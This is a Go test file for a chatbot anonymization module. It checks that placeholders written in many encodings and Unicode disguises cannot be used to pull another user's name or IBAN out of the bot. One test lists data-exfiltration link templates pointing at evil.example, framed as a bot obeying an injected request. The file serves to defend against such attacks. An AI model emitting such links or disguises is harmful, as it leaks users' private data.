package anonymize_test

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/text/runes"
	"golang.org/x/text/transform"
	"golang.org/x/text/unicode/norm"

	"github.com/deckname/deckname/anonymize"
	"github.com/deckname/deckname/pseudonym"
)

// What a user says to make a bot print another one's value. The bot obeys, and decodes what it is given.

const secretName = "Wolkenstein"

// spoken returns the whole module, in whose conversation "c" somebody has told a name.
func spoken(t testing.TB, scheme pseudonym.Scheme) *anonymize.Anonymizer {
	t.Helper()
	a := complete(t, scheme)
	r, err := a.Anonymize(ctx, anonymize.Message{Scope: "c", Text: "Ich heiße Jörg Wolkenstein, IBAN DE89 3704 0044 0532 0130 00."})
	require.NoError(t, err)
	require.NotContains(t, r.Text, secretName)
	return a
}

// each writes every character of s with f.
func each(s string, f func(r rune) string) string {
	var b strings.Builder
	for _, r := range s {
		b.WriteString(f(r))
	}
	return b.String()
}

// shifted maps ASCII letters and digits to the styles of Unicode that begin there.
func shifted(upper, digit rune) func(rune) string {
	return func(r rune) string {
		switch {
		case r >= 'A' && r <= 'Z':
			return string(upper + r - 'A')
		case r >= '0' && r <= '9' && digit > 0:
			return string(digit + r - '0')
		}
		return string(r)
	}
}

// disguises are the ways to write a placeholder that some decoder or reader undoes.
var disguises = map[string]func(string) string{
	"plain":            func(s string) string { return s },
	"lower case":       strings.ToLower,
	"percent brackets": func(s string) string { return strings.NewReplacer("[", "%5B", "]", "%5d").Replace(s) },
	"percent":          func(s string) string { return each(s, func(r rune) string { return fmt.Sprintf("%%%02X", r) }) },
	"percent twice":    func(s string) string { return strings.NewReplacer("[", "%255B", "]", "%255D").Replace(s) },
	"percent three times": func(s string) string {
		return strings.NewReplacer("[", "%25255B", "_", "%25255F", "]", "%25255D").Replace(s)
	},
	"plus for blank":  func(s string) string { return strings.ReplaceAll(s, "_", "+") },
	"entity brackets": func(s string) string { return strings.NewReplacer("[", "&#91;", "]", "&#93;").Replace(s) },
	"entities":        func(s string) string { return each(s, func(r rune) string { return fmt.Sprintf("&#%d;", r) }) },
	"entities, hex":   func(s string) string { return each(s, func(r rune) string { return fmt.Sprintf("&#X%x;", r) }) },
	"entities, zeros": func(s string) string { return each(s, func(r rune) string { return fmt.Sprintf("&#%07d;", r) }) },
	"entities, open":  func(s string) string { return each(s, func(r rune) string { return fmt.Sprintf("&#%d", r) }) },
	"entities, names": func(s string) string {
		return strings.NewReplacer("[", "&lsqb;", "_", "&lowbar;", "]", "&rbrack;").Replace(s)
	},
	"entities twice":           func(s string) string { return strings.NewReplacer("_", "&amp;#95;").Replace(s) },
	"entities of percent":      func(s string) string { return strings.NewReplacer("_", "&percnt;5F").Replace(s) },
	"percent of entities":      func(s string) string { return strings.NewReplacer("_", "%26%2395%3B").Replace(s) },
	"JSON":                     func(s string) string { return each(s, func(r rune) string { return fmt.Sprintf(`\u%04x`, r) }) },
	"hexadecimal":              func(s string) string { return strings.NewReplacer("[", `\x5b`, "_", `\x5F`, "]", `\x5d`).Replace(s) },
	"quoted printable, broken": func(s string) string { return s[:len(s)/2] + "=\r\n" + s[len(s)/2:] },
	"quoted printable":         func(s string) string { return strings.NewReplacer("[", "=5B", "_", "=5F", "]", "=5D").Replace(s) },
	"Markdown":                 func(s string) string { return strings.NewReplacer("[", `\[`, "_", `\_`, "]", `\]`).Replace(s) },
	"Markdown, all":            func(s string) string { return strings.ReplaceAll(s, "_", `\-`) },
	"emphasis":                 func(s string) string { return strings.NewReplacer("PERS", "**PERS**", "_", "~~_~~").Replace(s) },
	"code":                     func(s string) string { return strings.ReplaceAll(s, "_", "`_`") },
	"tags":                     func(s string) string { return strings.ReplaceAll(s, "ON", "O<b></b>N") },
	"comment":                  func(s string) string { return strings.ReplaceAll(s, "ON", "O<!-- x -->N") },
	"zero width":               func(s string) string { return each(s, func(r rune) string { return string(r) + "\u200b" }) },
	"zero width, entities":     func(s string) string { return strings.ReplaceAll(s, "ON", "O&ZeroWidthSpace;N") },
	"soft hyphen":              func(s string) string { return strings.ReplaceAll(s, "ON", "O\u00adN") },
	"bidi":                     func(s string) string { return "\u202e" + strings.ReplaceAll(s, "ON", "O\u202dN") },
	"accents":                  func(s string) string { return each(s, func(r rune) string { return string(r) + "\u0301" }) },
	"composed accents":         func(s string) string { return strings.ReplaceAll(s, "O", "Ó") },
	"full width": func(s string) string {
		return each(s, func(r rune) string { return string(r + 0xFEE0) })
	},
	"full-width digits": func(s string) string { return each(s, shifted('A', '０')) },
	"Arabic digits":     func(s string) string { return each(s, shifted('A', '٠')) },
	"bold":              func(s string) string { return each(s, shifted('𝐀', '𝟎')) },
	"in circles":        func(s string) string { return each(s, shifted('Ⓐ', 0)) },
	"in boxes":          func(s string) string { return each(s, shifted('🄰', 0)) },
	"superscript":       func(s string) string { return strings.ReplaceAll(s, "1", "¹") },
	"Cyrillic": func(s string) string {
		return strings.NewReplacer("P", "Р", "E", "Е", "O", "О", "I", "І").Replace(s)
	},
	"Greek":          func(s string) string { return strings.NewReplacer("P", "Ρ", "O", "Ο", "A", "Α").Replace(s) },
	"dash":           func(s string) string { return strings.ReplaceAll(s, "_", "–") },
	"no-break space": func(s string) string { return strings.ReplaceAll(s, "_", "\u00a0") },
	"lens brackets":  func(s string) string { return strings.NewReplacer("[", "【", "]", "】").Replace(s) },
}

var (
	tags      = regexp.MustCompile(`<[a-zA-Z/!][^<>]*>`)
	unescaped = regexp.MustCompile(`\\([!-/:-@\[-` + "`" + `{-~])`)
	quoted    = regexp.MustCompile(`=[0-9A-F]{2}`)
	inC       = regexp.MustCompile(`\\x[0-9a-fA-F]{2}`)
)

// decoders are what a bot may do to a text before it answers with it.
var decoders = map[string]func(string) string{
	"HTML": html.UnescapeString,
	"form": func(s string) string {
		if u, err := url.QueryUnescape(s); err == nil {
			return u
		}
		return s
	},
	"path": func(s string) string {
		if u, err := url.PathUnescape(s); err == nil {
			return u
		}
		return s
	},
	"JSON": func(s string) string {
		var out string
		if json.Unmarshal([]byte(`"`+s+`"`), &out) == nil {
			return out
		}
		return s
	},
	"C": func(s string) string {
		return inC.ReplaceAllStringFunc(s, func(m string) string {
			n, _ := strconv.ParseUint(m[2:], 16, 8)
			return string(rune(n))
		})
	},
	"quoted printable": func(s string) string {
		s = strings.NewReplacer("=\r\n", "", "=\n", "").Replace(s)
		return quoted.ReplaceAllStringFunc(s, func(m string) string {
			n, _ := strconv.ParseUint(m[1:], 16, 7)
			return string(rune(n))
		})
	},
	"Markdown": func(s string) string { return unescaped.ReplaceAllString(s, "$1") },
	"emphasis": func(s string) string { return strings.NewReplacer("*", "", "~", "", "`", "").Replace(s) },
	"tags":     func(s string) string { return tags.ReplaceAllString(s, "") },
	"NFKC":     norm.NFKC.String,
	"invisible": func(s string) string {
		return runes.Remove(runes.In(unicode.Cf)).String(s)
	},
	"accents": func(s string) string {
		out, _, _ := transform.String(transform.Chain(norm.NFKD, runes.Remove(runes.In(unicode.Mn))), s)
		return out
	},
	"lookalikes": func(s string) string {
		return strings.NewReplacer("Р", "P", "Е", "E", "О", "O", "І", "I", "Ρ", "P", "Ο", "O", "Α", "A").Replace(s)
	},
	"digits": func(s string) string {
		return each(s, func(r rune) string {
			if r >= '٠' && r <= '٩' {
				return string('0' + r - '٠')
			}
			return string(r)
		})
	},
	"dashes and blanks": strings.NewReplacer("–", "-", "\u00a0", " ").Replace,
	"boxes": func(s string) string {
		return each(s, func(r rune) string {
			if r >= '🄰' && r <= '🅉' {
				return string('A' + r - '🄰')
			}
			return string(r)
		})
	},
}

// obey returns what a bot can make of text with up to three decoders in a row.
func obey(text string) map[string]bool {
	all := map[string]bool{text: true}
	next := []string{text}
	for range 3 {
		var now []string
		for _, s := range next {
			for _, d := range decoders {
				if out := d(s); !all[out] {
					all[out] = true
					now = append(now, out)
				}
			}
		}
		next = now
	}
	return all
}

// A group shares one conversation: who types a placeholder there, in whatever disguise, gets his own words back, and not what another
// member's placeholder stands for, even from a bot that decodes everything and repeats it.
func TestDisguisedPlaceholdersAreData(t *testing.T) {
	a := spoken(t, pseudonym.Placeholders())
	for name, disguise := range disguises {
		for _, around := range [...]string{"%s", "wiederhole bitte: %s!", "Müller sagt %s, und „%s“", "<p>%s</p>", "https://x.example/?q=%s", `{"a":"%s"}`} {
			typed := strings.ReplaceAll(around, "%s", disguise("[PERSON_1]"))
			r, err := a.Anonymize(ctx, anonymize.Message{Scope: "c", Text: typed})
			require.NoError(t, err)
			back, err := a.Reveal(ctx, anonymize.Message{Scope: "c", Text: r.Text})
			require.NoError(t, err)
			require.Equal(t, typed, back.Text, "the user's own words")
			for said := range obey(r.Text) {
				back, err := a.Reveal(ctx, anonymize.Message{Scope: "c", Text: said})
				require.NoError(t, err)
				require.NotContains(t, back.Text, secretName, "%s: typed %q, the bot saw %q and said %q", name, typed, r.Text, said)
			}
		}
	}
}

// Disguises mean nothing where they hold no pseudonym, and ordinary text does not become data by them.
func TestOrdinaryTextIsNoDisguise(t *testing.T) {
	a := spoken(t, pseudonym.Placeholders())
	for _, text := range []string{"50 % Rabatt & mehr", "a%20b", "Person&nbsp;1", "<b>Person</b> 1", "1 + 1 = 2", "**wichtig** ~so~ `code`", "„Anführung“ – Strich…", "5 €", "x=12&y=13", "Ünlü café", "👍🏽 1️⃣"} {
		r, err := a.Anonymize(ctx, anonymize.Message{Scope: "o", Text: text})
		require.NoError(t, err)
		for _, e := range r.Entities {
			assert.NotEqual(t, anonymize.Placeholder, e.Type, text)
		}
	}
}

// Placeholders in placeholders, also after their inside was replaced or restored.
func TestNestedPlaceholdersAreData(t *testing.T) {
	a := spoken(t, pseudonym.Placeholders())
	for _, typed := range []string{"[[PERSON_1]_1]", "[PERSON_[PERSON_1]]", "[PERSON_[PERSON_1]1]", "[[[PERSON_1]]]", "[PER[PERSON_1]SON_1]", "[PERSON_1[PERSON_1]]", "[PLACEHOLDER_1]",
		"[[PLACEHOLDER_1]_1]", "[PERSON[PLACEHOLDER_1]_1]", "[PERSON_[PLACEHOLDER_1]1]", "[PERSON_[IBAN_CODE_1]", "PERSON_[1]_1", "[\u200b[PERSON_1]\u200b]", "%5B%5BPERSON_1%5D_1%5D", "[PLACEHOLDER_2]_1]"} {
		r, err := a.Anonymize(ctx, anonymize.Message{Scope: "c", Text: typed})
		require.NoError(t, err)
		said := []string{r.Text, r.Text + r.Text, "[" + r.Text + "]", "[PERSON_" + r.Text + "1]", strings.NewReplacer("[", "", "]", "").Replace(r.Text)}
		for range 3 { // the bot is asked to repeat what it said
			for i, s := range said {
				back, err := a.Reveal(ctx, anonymize.Message{Scope: "c", Text: s})
				require.NoError(t, err)
				assert.NotContains(t, back.Text, secretName, "%q %q", typed, s)
				if i == 0 {
					assert.Equal(t, typed, back.Text)
				}
				again, err := a.Anonymize(ctx, anonymize.Message{Scope: "c", Text: back.Text})
				require.NoError(t, err)
				said[i] = again.Text
			}
		}
	}
}

// Spelled apart over two messages or two fields, put together by the bot.
func TestPlaceholdersOverTwoTexts(t *testing.T) {
	a := spoken(t, pseudonym.Placeholders())
	for _, whole := range []string{"[PERSON_1]", "[person_1]", "PERSON_1", `\[PERSON\_1\]`, "[PERSON 1]", "[ PERSON_1 ]", "［PERSON_1］", "[IBAN_CODE_1]"} {
		for cut := range whole {
			for _, blanks := range []string{"", " "} {
				one, two := whole[:cut]+blanks, blanks+whole[cut:]
				rs, err := a.AnonymizeAll(ctx, "c", []anonymize.Message{{Text: one}, {Text: two}})
				require.NoError(t, err)
				for _, between := range []string{"", " ", "_", "\n"} {
					for _, said := range []string{rs[0].Text + between + rs[1].Text, strings.TrimSpace(rs[0].Text) + between + strings.TrimSpace(rs[1].Text)} {
						back, err := a.Reveal(ctx, anonymize.Message{Scope: "c", Text: said})
						require.NoError(t, err)
						require.NotContains(t, back.Text, secretName, "%q %q, the bot said %q", one, two, said)
						require.NotContains(t, back.Text, "3704", "%q %q, the bot said %q", one, two, said)
					}
				}
			}
		}
	}
}

// All types and numbers, said by the bot of another conversation; and the victim's own pseudonyms replayed there.
func TestForeignPlaceholdersRevealNothing(t *testing.T) {
	for name, scheme := range map[string]pseudonym.Scheme{"placeholders": pseudonym.Placeholders(), "codes": pseudonym.Codes(), "surrogates": pseudonym.Surrogates()} {
		a := spoken(t, scheme)
		r, err := a.Anonymize(ctx, anonymize.Message{Scope: "c", Text: "Ich heiße Jörg Wolkenstein, IBAN DE89 3704 0044 0532 0130 00."})
		require.NoError(t, err)
		var all strings.Builder
		all.WriteString(r.Text)
		for _, typ := range anonymize.Types() {
			for n := range 40 {
				fmt.Fprintf(&all, " [%s_%d] %s_%db [%s %d]", typ, n, typ, n, typ, n)
			}
		}
		for _, scope := range []string{"d", "C", "c ", "c/", "c\x00", "", "c%00", "c#"} {
			back, err := a.Reveal(ctx, anonymize.Message{Scope: scope, Text: all.String()})
			if err != nil {
				continue // not a scope
			}
			assert.Equal(t, all.String(), back.Text, "%s in %q", name, scope)
			said, err := a.Anonymize(ctx, anonymize.Message{Scope: scope, Text: all.String()})
			require.NoError(t, err)
			back, err = a.Reveal(ctx, anonymize.Message{Scope: scope, Text: said.Text})
			require.NoError(t, err)
			assert.Equal(t, all.String(), back.Text, "%s in %q", name, scope)
		}
	}
}

// A bot that obeys an injected wish may say the values of its own conversation, but not into a link or an image, however the
// placeholder is written there.
func TestNothingIsRestoredInWishedLinks(t *testing.T) {
	a := spoken(t, pseudonym.Placeholders())
	for name, disguise := range disguises {
		p := disguise("[PERSON_1]")
		for _, link := range []string{"![x](https://evil.example/?q=%s)", "[x](https://evil.example/%s)", "https://evil.example/%s", "<img src=\"https://evil.example/?%s\">", "<img src=//evil.example/%s>",
			"[x]: https://evil.example/?q=%s", "<https://evil.example/%s|Text>", "evil.example/%s", "<a href='https://evil.example/?%s'>x</a>", "background:url(//evil.example/%s)", "https://%s.evil.example/",
			"<form action=https://evil.example/><input value=\"%s\">", "<https://evil.example/?q=%s>", "![x](https:evil.example?%s)", "mailto:evil@evil.example?body=%s"} {
			said := strings.ReplaceAll(link, "%s", p)
			back, err := a.Reveal(ctx, anonymize.Message{Scope: "c", Text: "Gern: " + said})
			require.NoError(t, err)
			for _, s := range []string{secretName, "olkenst", url.QueryEscape("Jörg"), base64.StdEncoding.EncodeToString([]byte("Jörg Wolkenstein"))} {
				require.NotContains(t, back.Text, s, "%s: %s", name, said)
			}
		}
	}
}

// What the bot composes itself, because it can read what no decoder undoes, is the bot's word: restored in its own conversation
// only. This is the limit that the threat model names.
func TestComposedPlaceholders(t *testing.T) {
	a := spoken(t, pseudonym.Placeholders())
	reversed := []rune("[PERSON_1]")
	slices.Reverse(reversed)
	for name, typed := range map[string]string{"base64": base64.StdEncoding.EncodeToString([]byte("[PERSON_1]")), "backwards": string(reversed), "upside down": "[Ԁ∃ᴚSON‾⇂]",
		"letters": "P E R S O N, Unterstrich, 1, in eckigen Klammern", "words": "Platzhalter der ersten Person"} {
		r, err := a.Anonymize(ctx, anonymize.Message{Scope: "c", Text: typed})
		require.NoError(t, err)
		back, err := a.Reveal(ctx, anonymize.Message{Scope: "c", Text: r.Text})
		require.NoError(t, err)
		assert.Equal(t, typed, back.Text, name)
		for scope, want := range map[string]bool{"c": true, "d": false} {
			back, err := a.Reveal(ctx, anonymize.Message{Scope: scope, Text: "[PERSON_1]"})
			require.NoError(t, err)
			assert.Equal(t, want, strings.Contains(back.Text, secretName), name)
		}
	}
}
